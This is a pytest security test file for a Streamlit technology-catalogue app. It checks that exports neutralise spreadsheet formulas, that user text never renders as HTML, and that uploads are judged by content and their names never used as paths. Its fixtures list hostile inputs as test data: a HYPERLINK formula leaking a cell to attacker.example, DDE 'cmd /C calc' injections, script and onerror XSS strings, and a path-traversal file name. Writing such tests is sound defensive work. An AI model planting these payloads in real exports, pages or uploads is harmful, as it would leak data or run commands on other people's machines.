"""Hardening: spreadsheet formulas neutralised on every export path, user text never rendered as
HTML, uploads checked by size and real content (never by name), file names never used as paths."""

from __future__ import annotations

import ast
import csv
import io
import json
import tomllib
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import select

from storage.catalogue import TechnologyInput, create_technology
from storage.catalogue_io import (
    CatalogueImportError,
    export_catalogue,
    import_catalogue,
)
from storage.db import make_engine, read_session
from storage.exports import table_bytes
from storage.models import Technology
from storage.tabular import MAX_UPLOAD_BYTES, TableReadError, read_table
from streamlit_app.cli import main as cli_main
from streamlit_app.widgets import md_escape
from tests.ui.helpers import open_app, prepare_environment

ROOT = Path(__file__).resolve().parents[1]
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HTML_PAYLOADS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"]
FREE_TEXT_FIELDS = ["name", "company", "short_description", "long_description", "ai_technique", "input_data_type", "source_detail"]


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes) -> list[list[object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"cell {cell.coordinate} is a formula"
    return [[cell for cell in row] for row in sheet.iter_rows(values_only=True)]


# --- formula neutralisation --------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_table_bytes_neutralises_every_classic_payload(fmt: str) -> None:
    frame = pd.DataFrame({"text": FORMULA_PAYLOADS, "number": [-2, 3, -4, 0, 1, 2]})
    content = table_bytes(frame, fmt)
    rows = csv_cells(content) if fmt == "csv" else xlsx_cells(content)
    assert rows[0] == ["text", "number"]
    texts = [row[0] for row in rows[1:]]
    # XML normalises a carriage return to a line feed when the workbook is read back.
    expected = ["'" + (payload.replace("\r", "\n") if fmt == "xlsx" else payload) for payload in FORMULA_PAYLOADS]
    assert texts == expected
    numbers = [row[1] for row in rows[1:]]
    assert numbers == (["-2", "3", "-4", "0", "1", "2"] if fmt == "csv" else [-2, 3, -4, 0, 1, 2]), "numbers stay numbers"


def test_headers_are_neutralised_too() -> None:
    content = table_bytes(pd.DataFrame({"=cmd|x": ["safe"]}), "csv")
    assert csv_cells(content)[0] == ["'=cmd|x"]


@pytest.fixture
def payload_catalogue(engine):
    for index, payload in enumerate(FORMULA_PAYLOADS):
        create_technology(engine, TechnologyInput(name=f"{payload} #{index}", company=payload, short_description=payload,
                                                  long_description=payload, ai_technique=payload))
    return engine


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_catalogue_export_neutralises_formulas(payload_catalogue, fmt: str) -> None:
    rows = (csv_cells if fmt == "csv" else xlsx_cells)(export_catalogue(payload_catalogue, fmt))
    header = rows[0]
    for row in rows[1:]:
        cells = dict(zip(header, row, strict=True))
        for column in ("name", "company", "short_description", "long_description", "ai_technique"):
            value = str(cells[column])
            assert value.startswith("'") and value[1:].lstrip("\t\r").startswith(("=", "+", "-", "@")), (column, value)


def test_cli_catalogue_export_neutralises_formulas(payload_catalogue, database_url: str, tmp_path: Path, capsys) -> None:
    target = tmp_path / "catalogue.csv"
    assert cli_main(["catalogue", "export", str(target), "--database-url", database_url]) == 0
    rows = csv_cells(target.read_bytes())
    names = [row[1] for row in rows[1:]]
    with read_session(payload_catalogue) as session:
        stored = session.scalars(select(Technology.name)).all()  # leading whitespace was stripped on input
    assert len(stored) == len(FORMULA_PAYLOADS)
    assert sorted(names) == sorted(f"'{name}" for name in stored)


# --- no HTML from user text ----------------------------------------------------------------------

def test_no_page_turns_on_unsafe_html() -> None:
    hits = [str(p.relative_to(ROOT)) for p in (ROOT / "streamlit_app").rglob("*.py") if "unsafe_allow_html" in p.read_text(encoding="utf-8")]
    assert hits == []


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_html_payloads_in_every_free_text_field_show_as_text(sqlite_url: str, monkeypatch, payload: str) -> None:
    engine = make_engine(sqlite_url)
    technology_id = create_technology(engine, TechnologyInput(**{field: f"{payload} {field}" for field in FREE_TEXT_FIELDS}))
    engine.dispose()
    prepare_environment(monkeypatch, sqlite_url)
    at = open_app("lead", "catalogue_browser.py")
    at.selectbox(key="cat_open").set_value(technology_id).run()
    assert not at.exception
    markdown_like = [*at.markdown, *at.caption, *at.title, *at.header, *at.subheader]
    assert not any(element.proto.allow_html for element in [*at.markdown, *at.caption]), "no element renders HTML"
    for element in markdown_like:
        assert payload not in element.value, f"raw payload in a markdown element: {element.value!r}"
    assert at.header[0].value == md_escape(f"{payload} name")
    shown = "\n".join(str(frame.value.to_dict()) for frame in at.dataframe) + "\n".join(t.value for t in at.text)
    for field in FREE_TEXT_FIELDS:
        assert f"{payload} {field}" in shown, f"{field} is shown verbatim as text"


# --- uploads ------------------------------------------------------------------------------------

def test_upload_size_limit_matches_the_server_setting_and_is_enforced() -> None:
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] * 1024 * 1024 == MAX_UPLOAD_BYTES
    with pytest.raises(TableReadError, match="the limit is 1 KB"):
        read_table(b"name\n" + b"x" * 2048, max_bytes=1024)


def test_content_decides_the_type_not_the_file_name() -> None:
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)
    with pytest.raises(TableReadError, match="contains binary data"):
        read_table(png)
    with pytest.raises(TableReadError, match="not a readable XLSX workbook"):
        read_table(b"PK\x03\x04 this is not really a zip archive")
    workbook = openpyxl.Workbook()
    workbook.active.append(["name", "company"])
    workbook.active.append(["Real workbook", "Acme"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    # An XLSX whatever its name: detected by its bytes.
    assert read_table(buffer.getvalue()).rows == [(2, ["Real workbook", "Acme"])]


def test_catalogue_import_refuses_a_disguised_binary_file_and_writes_nothing(engine) -> None:
    with pytest.raises(CatalogueImportError, match="binary data"):
        import_catalogue(engine, b"\x00\x01\x02binary" * 50, source_name="catalogue.csv")
    with read_session(engine) as session:
        assert session.scalars(select(Technology)).first() is None


def test_the_uploaded_file_name_is_only_text(engine, tmp_path: Path, monkeypatch) -> None:
    workdir = tmp_path / "cwd"
    workdir.mkdir()
    monkeypatch.chdir(workdir)
    hostile = "../../../../tmp/evil<script>.csv"
    import_catalogue(engine, b"name,company\nTool,Acme\n", source_name=hostile)
    assert list(workdir.iterdir()) == [] and not Path("/tmp/evil<script>.csv").exists()
    with read_session(engine) as session:
        assert session.scalar(select(Technology.source_detail)) == hostile


def test_no_page_opens_a_path_built_from_an_upload_name() -> None:
    """Static check: no open()/Path()/os.path call in the UI takes an expression reading `.name`."""
    offenders = []
    for path in (ROOT / "streamlit_app").rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            called = ast.unparse(node.func)
            if called in {"open", "Path", "pathlib.Path"} or called.startswith("os.path."):
                arguments = " ".join(ast.unparse(a) for a in node.args)
                if ".name" in arguments and "upload" in arguments.lower():
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}: {ast.unparse(node)}")
    assert offenders == []


def test_audit_export_is_formula_safe(engine) -> None:
    """The audit page downloads through table_bytes; its details column is JSON text."""
    from storage.audit import audit_frame, record_audit
    from storage.db import write_session

    with write_session(engine) as session:
        record_audit(session, "anonymous", None, "access_refused", "page:x", "refused", {"value": -5})
    frame = audit_frame(engine)
    rows = csv_cells(table_bytes(frame, "csv"))
    assert json.loads(rows[1][rows[0].index("details")]) == {"value": -5}
